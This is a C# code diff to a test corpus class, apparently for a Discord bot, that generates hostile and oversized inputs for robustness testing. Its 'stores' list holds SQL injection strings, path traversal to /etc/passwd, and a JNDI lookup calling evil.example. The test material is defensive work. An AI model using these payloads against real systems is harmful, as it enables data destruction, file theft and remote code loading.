@@ -8,20 +8,6 @@ internal static class HostileCorpus
     /// <summary>The longest are beyond anything that can be kept, and must be refused kindly or cut short.</summary>
     private static readonly int[] s_lengths = [3_999, 4_000, 4_001, 65_536, 262_145, 1_000_000];
 
-    public static ImmutableArray<(string Kind, string Text)> All { get; } = [.. Short().Concat(Endless()).DistinctBy(one => one.Text)];
-
-    /// <summary>Those that can be an answer in one's own words.</summary>
-    public static IEnumerable<string> Answers => All.Select(one => one.Text).Where(text => text.Length <= 4000 && !string.IsNullOrWhiteSpace(text));
-
-    /// <summary>One of each kind and surrounding is enough where each costs a page.</summary>
-    public static IEnumerable<string> Some => Answers.Index().Where(one => one.Index % 11 == 0).Select(one => one.Item);
-
-    private static IEnumerable<(string, string)> Short() =>
-        from kind in Kinds
-        from payload in kind.Value
-        from text in Surroundings(payload)
-        select (kind.Key, text);
-
     private static ImmutableDictionary<string, string[]> Kinds { get; } = new Dictionary<string, string[]>(StringComparer.Ordinal)
     {
         ["mentions"] = ["@everyone", "@here", "<@771827364500112233>", "<@!771827364500112233>", "<@&991827364500445566>", "<#551827364500778899>", "</voices withdraw:1234567890>", "<:evil:123456789>", "<t:0:R>", "<id:customize>",
@@ -40,9 +26,23 @@ internal static class HostileCorpus
         ["stores"] = ["'; drop table answer; --", "\" or 1=1 --", "%' or '1'='1", "\\x00", "../../etc/passwd", "..\\..\\windows", "NUL", "CON", "file:///etc/passwd", "${jndi:ldap://evil.example/a}", "null", "undefined", "NaN", "true"],
     }.ToImmutableDictionary(StringComparer.Ordinal);
 
-    private static IEnumerable<string> Surroundings(string payload) => [payload, $"I think {payload} is so", $"{payload} {payload}", $"First.\n{payload}", $"“{payload}”", $"({payload})x"];
+    public static ImmutableArray<(string Kind, string Text)> All { get; } = [.. Short().Concat(Endless()).DistinctBy(one => one.Text)];
 
-    private static IEnumerable<(string, string)> Endless() =>
+    /// <summary>Those that can be an answer in one's own words: short enough, and with something to see in them.</summary>
+    public static IEnumerable<string> Answers => All.Select(one => one.Text).Where(text => text.Length <= 4000 && text.Any(c => char.IsLetterOrDigit(c) || char.IsPunctuation(c) || char.IsSymbol(c)));
+
+    /// <summary>One of each kind and surrounding is enough where each costs a page.</summary>
+    public static IEnumerable<string> Some => Answers.Index().Where(one => one.Index % 11 == 0).Select(one => one.Item);
+
+    private static IEnumerable<(string Kind, string Text)> Short() =>
+        from kind in Kinds
+        from payload in kind.Value
+        from text in Surroundings(payload)
+        select (kind.Key, text);
+
+    private static IEnumerable<string> Surroundings(string payload) => [payload, $"I think {payload} is so", $"{payload} {payload}", $"First.\n{payload}"];
+
+    private static IEnumerable<(string Kind, string Text)> Endless() =>
         from length in s_lengths
         from piece in (string[])["x", "word ", "@everyone ", "<b>", "=1\t", "日本", "\u0301", "`", "["]
         select ("endless", string.Concat(Enumerable.Repeat(piece, (length / piece.Length) + 1))[..length]);
